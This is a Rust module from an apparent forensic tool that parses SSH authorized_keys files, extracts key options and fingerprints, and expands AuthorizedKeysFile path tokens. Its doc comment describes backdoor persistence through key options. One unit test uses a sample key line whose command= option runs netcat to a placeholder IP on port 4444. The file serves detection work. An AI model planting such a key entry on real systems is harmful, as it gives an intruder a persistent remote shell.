//! authorized_keys: the public keys that may log in as a user (`~/.ssh/authorized_keys` and
//! whatever sshd's `AuthorizedKeysFile` names).
//!
//! One appended line is the most common SSH persistence there is. The options in front of a key
//! are where the cleverer backdoors hide: `command="…"` runs a program on every login with that
//! key (a reverse shell, or a wrapper that logs the real command), `from=` restricts the key to
//! the attacker's address (which is itself an indicator), `environment=` sets variables such as
//! `LD_PRELOAD`. The line format follows sshd(8) AUTHORIZED_KEYS FILE FORMAT: optional
//! comma-separated options (values double-quoted, may contain commas and `\"`), key type, base64
//! key, comment. Each key gets its OpenSSH `SHA256:` fingerprint, the same string sshd writes to
//! the auth log on `Accepted publickey`, so a key can be tied to the logins it made.

use base64::Engine as _;
use serde::Serialize;
use sha2::{Digest, Sha256};

/// One key line.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct KeyLine {
    /// Line number (1-based).
    pub line: usize,
    /// Options in order: name (lower-case) and value (quotes removed).
    pub options: Vec<(String, Option<String>)>,
    /// Key type (`ssh-ed25519`, `ssh-rsa`, `sk-…`, certificates …).
    pub key_type: String,
    /// The base64 blob as written.
    pub key_base64: String,
    /// Comment (often `user@host` of whoever generated the key).
    pub comment: String,
    /// OpenSSH fingerprint (`SHA256:…`), when the blob decodes.
    pub fingerprint: Option<String>,
}

impl KeyLine {
    /// The value of an option (first occurrence).
    pub fn option(&self, name: &str) -> Option<&str> {
        self.options
            .iter()
            .find(|(n, _)| n == name)
            .and_then(|(_, v)| v.as_deref())
    }

    /// True when the option is present (with or without value).
    pub fn has_option(&self, name: &str) -> bool {
        self.options.iter().any(|(n, _)| n == name)
    }
}

/// A line that is neither blank, a comment, nor a key.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct BadLine {
    /// Line number (1-based).
    pub line: usize,
    /// The text (may be anything an attacker wrote).
    pub text: String,
}

/// Everything in one file.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
pub struct KeysFile {
    /// Parsed keys.
    pub keys: Vec<KeyLine>,
    /// Lines that are not keys.
    pub bad: Vec<BadLine>,
}

/// True for a key type token sshd knows.
pub fn is_key_type(t: &str) -> bool {
    matches!(
        t,
        "ssh-rsa"
            | "ssh-dss"
            | "ssh-ed25519"
            | "ssh-ed448"
            | "ecdsa-sha2-nistp256"
            | "ecdsa-sha2-nistp384"
            | "ecdsa-sha2-nistp521"
            | "sk-ecdsa-sha2-nistp256@openssh.com"
            | "sk-ssh-ed25519@openssh.com"
    ) || (t.ends_with("-cert-v01@openssh.com") && t.len() < 64)
}

/// Splits the option string at the first whitespace outside quotes.
fn split_options(s: &str) -> (&str, &str) {
    let mut in_quotes = false;
    let mut escaped = false;
    for (i, c) in s.char_indices() {
        if escaped {
            escaped = false;
            continue;
        }
        match c {
            '\\' if in_quotes => escaped = true,
            '"' => in_quotes = !in_quotes,
            c if c.is_whitespace() && !in_quotes => return (&s[..i], s[i..].trim_start()),
            _ => {}
        }
    }
    (s, "")
}

/// Parses `opt1,opt2="a,b",opt3` into names and unquoted values.
pub fn parse_options(s: &str) -> Vec<(String, Option<String>)> {
    let mut out = Vec::new();
    let mut name = String::new();
    let mut value: Option<String> = None;
    let mut in_quotes = false;
    let mut escaped = false;
    for c in s.chars() {
        if escaped {
            if let Some(v) = value.as_mut() {
                if c != '"' {
                    v.push('\\');
                }
                v.push(c);
            }
            escaped = false;
            continue;
        }
        match c {
            '\\' if in_quotes => escaped = true,
            '"' => in_quotes = !in_quotes,
            ',' if !in_quotes => {
                if !name.is_empty() {
                    out.push((name.to_ascii_lowercase(), value.take()));
                }
                name.clear();
                value = None;
            }
            '=' if value.is_none() && !in_quotes => value = Some(String::new()),
            c => match value.as_mut() {
                Some(v) => v.push(c),
                None => name.push(c),
            },
        }
    }
    if !name.is_empty() {
        out.push((name.to_ascii_lowercase(), value));
    }
    out
}

/// OpenSSH's fingerprint of a base64 key blob: `SHA256:` + unpadded base64 of its SHA-256.
pub fn fingerprint(key_base64: &str) -> Option<String> {
    let blob = base64::engine::general_purpose::STANDARD
        .decode(key_base64.as_bytes())
        .ok()?;
    let digest = Sha256::digest(&blob);
    Some(format!(
        "SHA256:{}",
        base64::engine::general_purpose::STANDARD_NO_PAD.encode(digest)
    ))
}

/// Parses one non-comment line; `None` when it is not a key.
pub fn parse_line(line_no: usize, l: &str) -> Option<KeyLine> {
    let l = l.trim();
    let first = l.split_whitespace().next()?;
    let (options, rest) = if is_key_type(first) {
        (Vec::new(), l)
    } else {
        let (opts, rest) = split_options(l);
        (parse_options(opts), rest)
    };
    let mut parts = rest.splitn(3, char::is_whitespace);
    let key_type = parts.next()?.to_string();
    if !is_key_type(&key_type) {
        return None;
    }
    let key_base64 = parts.next()?.trim().to_string();
    let comment = parts.next().unwrap_or("").trim().to_string();
    Some(KeyLine {
        line: line_no,
        fingerprint: fingerprint(&key_base64),
        options,
        key_type,
        key_base64,
        comment,
    })
}

/// Parses a whole file.
pub fn parse(data: &[u8]) -> KeysFile {
    let text = huoyan_core::text::bytes_to_string(data);
    let mut out = KeysFile::default();
    for (i, raw) in text.split('\n').enumerate() {
        let l = raw.trim();
        if l.is_empty() || l.starts_with('#') {
            continue;
        }
        match parse_line(i + 1, l) {
            Some(k) => out.keys.push(k),
            None => out.bad.push(BadLine {
                line: i + 1,
                text: l.to_string(),
            }),
        }
    }
    out
}

/// Expands sshd's `%h`, `%u`, `%U`, `%%` tokens in an `AuthorizedKeysFile` entry; relative
/// results are taken from the home directory, as sshd does. `None` for unknown tokens.
pub fn expand_path(pattern: &str, home: &str, user: &str, uid: u32) -> Option<String> {
    let mut out = String::new();
    let mut chars = pattern.chars();
    while let Some(c) = chars.next() {
        if c != '%' {
            out.push(c);
            continue;
        }
        match chars.next()? {
            '%' => out.push('%'),
            'h' => out.push_str(home),
            'u' => out.push_str(user),
            'U' => out.push_str(&uid.to_string()),
            _ => return None,
        }
    }
    if out.starts_with('/') {
        Some(out)
    } else {
        Some(format!("{}/{}", home.trim_end_matches('/'), out))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    // Public half of a throwaway test key (generated with ssh-keygen -t ed25519 for this test).
    const ED: &str = "AAAAC3NzaC1lZDI1NTE5AAAAIJ4ns9x4F5fQmZ0r0F0mQ1r0o3o7Yw9y4n0ZKqk3iA0N";

    #[test]
    fn plain_key_and_fingerprint() {
        let f = parse(format!("# keys\nssh-ed25519 {ED} alice@laptop\n").as_bytes());
        assert_eq!(f.keys.len(), 1);
        let k = &f.keys[0];
        assert_eq!(k.line, 2);
        assert_eq!(k.comment, "alice@laptop");
        assert!(k.options.is_empty());
        assert!(k
            .fingerprint
            .as_deref()
            .is_some_and(|s| s.starts_with("SHA256:")));
    }

    #[test]
    fn options_with_quoted_commas_and_escapes() {
        let line = format!(
            "from=\"10.0.0.1,192.0.2.7\",command=\"/bin/sh -c \\\"nc 192.0.2.7 4444\\\", x\",no-pty ssh-ed25519 {ED} k"
        );
        let k = parse_line(1, &line).expect("key");
        assert_eq!(k.option("from"), Some("10.0.0.1,192.0.2.7"));
        assert_eq!(
            k.option("command"),
            Some("/bin/sh -c \"nc 192.0.2.7 4444\", x")
        );
        assert!(k.has_option("no-pty"));
        assert_eq!(k.key_type, "ssh-ed25519");
    }

    #[test]
    fn junk_is_bad_line_not_panic() {
        let f = parse(b"this is not a key\n\xff\xfe\ncommand=\"unterminated ssh-rsa\n");
        assert!(f.keys.is_empty());
        assert_eq!(f.bad.len(), 3);
        assert!(parse_line(1, "ssh-rsa").is_none());
    }

    #[test]
    fn tokens_expand() {
        assert_eq!(
            expand_path(".ssh/authorized_keys", "/home/a", "a", 1000).as_deref(),
            Some("/home/a/.ssh/authorized_keys")
        );
        assert_eq!(
            expand_path("/etc/ssh/keys/%u", "/home/a", "a", 1000).as_deref(),
            Some("/etc/ssh/keys/a")
        );
        assert_eq!(
            expand_path("%h/x%%", "/r", "r", 0).as_deref(),
            Some("/r/x%")
        );
        assert_eq!(expand_path("%z", "/r", "r", 0), None);
    }
}
